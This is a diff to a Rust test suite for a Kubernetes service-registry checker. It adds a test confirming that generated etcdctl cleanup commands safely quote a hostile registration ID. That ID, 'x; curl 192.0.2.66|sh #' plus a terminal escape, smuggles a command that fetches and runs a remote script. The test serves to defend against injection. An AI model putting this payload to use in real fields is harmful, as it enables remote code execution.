@@ -24,7 +24,7 @@ fn registration(kind: &str, id: &str, address: &str, source: &str) -> Registrati
     }
 }
 
-fn all() -> Vec<Registration> {
+pub(super) fn all() -> Vec<Registration> {
     vec![
         registration("nexus-streamer", "streamer-0", "10.0.1.1", "POD_IP"),
         registration("nexus-collector", "collector-x", "10.0.2.1", "POD_IP"),
@@ -32,7 +32,7 @@ fn all() -> Vec<Registration> {
     ]
 }
 
-fn registered(registrations: Vec<Registration>) -> Observed {
+pub(super) fn registered(registrations: Vec<Registration>) -> Observed {
     let mut observed = pipeline(None, None);
     observed.sites[0].objects.pods[0].ip = "10.0.1.1".to_owned();
     observed.sites[1].objects.pods[1].ip = "10.0.2.1".to_owned();
@@ -209,11 +209,40 @@ fn v13_an_address_is_not_judged_while_its_clusters_api_server_does_not_answer() 
 #[test]
 fn v13_a_probe_without_report_makes_its_clusters_api_server_doubtful() {
     let mut observed = registered(all());
-    observed.sites[0].probes[0].end = ProbeEnd::OutOfTime;
+    observed.sites[0].probes[0].end = ProbeEnd::Stopped;
     assert_eq!(doubtful(&observed), [0]);
     let mut observed = registered(all());
     observed.sites[1]
         .gaps
         .push("pods cannot be listed".to_owned());
     assert_eq!(doubtful(&observed), [1]);
+}
+
+#[test]
+fn v13_a_key_that_somebody_wrote_is_one_word_of_the_command_that_deletes_it() {
+    let mut registrations = all();
+    let id = "x; curl 192.0.2.66|sh #\u{1b}[2J";
+    let mut gone = registration("nexus-collector", id, "10.0.2.9", "POD_IP");
+    gone.lease_remaining_s = None;
+    registrations.push(gone);
+    let mut observed = registered(registrations);
+    observed.sites[1].objects.workloads.push(workload(
+        Component::Etcd,
+        ObjectKind::StatefulSet,
+        SHARED,
+        1,
+    ));
+    let findings = judge(&observed);
+    assert_eq!(
+        commands(found(&findings, "TEL-REG-002", "central")),
+        "kubectl --context central -n shared-infrastructure exec etcd-0 -- etcdctl del \
+         $'/services/nexus-collector/x; curl 192.0.2.66|sh #\\033[2J'"
+    );
+    observed.sites[1].context = "the central one".to_owned();
+    observed.sites[1].objects = Objects::default();
+    let missing = judge(&observed);
+    assert_eq!(
+        commands(found(&missing, "TEL-WRK-001", "the central one")),
+        "telectl deploy central --context 'the central one'"
+    );
 }
